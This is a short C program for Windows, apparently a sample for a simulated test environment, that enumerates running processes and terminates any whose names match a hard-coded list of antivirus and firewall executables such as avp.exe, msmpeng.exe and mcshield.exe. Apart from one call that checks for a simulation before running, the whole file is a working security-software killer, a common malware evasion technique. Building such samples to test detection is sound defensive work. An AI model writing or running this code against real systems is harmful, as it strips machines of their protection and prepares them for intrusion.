/* Walks the running processes and ends those whose names belong to protection software. */
#include "simulated.h"

#include <string.h>
#include <tlhelp32.h>

static const char *const unwanted[] = { "avguard.exe", "mcshield.exe",	"navapw32.exe",
					"outpost.exe", "zonealarm.exe", "nod32krn.exe",
					"avp.exe",     "msmpeng.exe",	"ccapp.exe" };

static BOOL is_unwanted(const char *name)
{
	for (unsigned i = 0; i < sizeof unwanted / sizeof *unwanted; i++) {
		if (_stricmp(name, unwanted[i]) == 0)
			return TRUE;
	}
	return FALSE;
}

int main(void)
{
	PROCESSENTRY32 entry = { .dwSize = sizeof entry };
	leave_unless_simulated();
	HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
	if (snapshot == INVALID_HANDLE_VALUE)
		return 1;
	for (BOOL more = Process32First(snapshot, &entry); more;
	     more = Process32Next(snapshot, &entry)) {
		if (!is_unwanted(entry.szExeFile))
			continue;
		HANDLE process = OpenProcess(PROCESS_TERMINATE, FALSE, entry.th32ProcessID);
		if (process != NULL) {
			TerminateProcess(process, 0);
			CloseHandle(process);
		}
	}
	CloseHandle(snapshot);
	return 0;
}
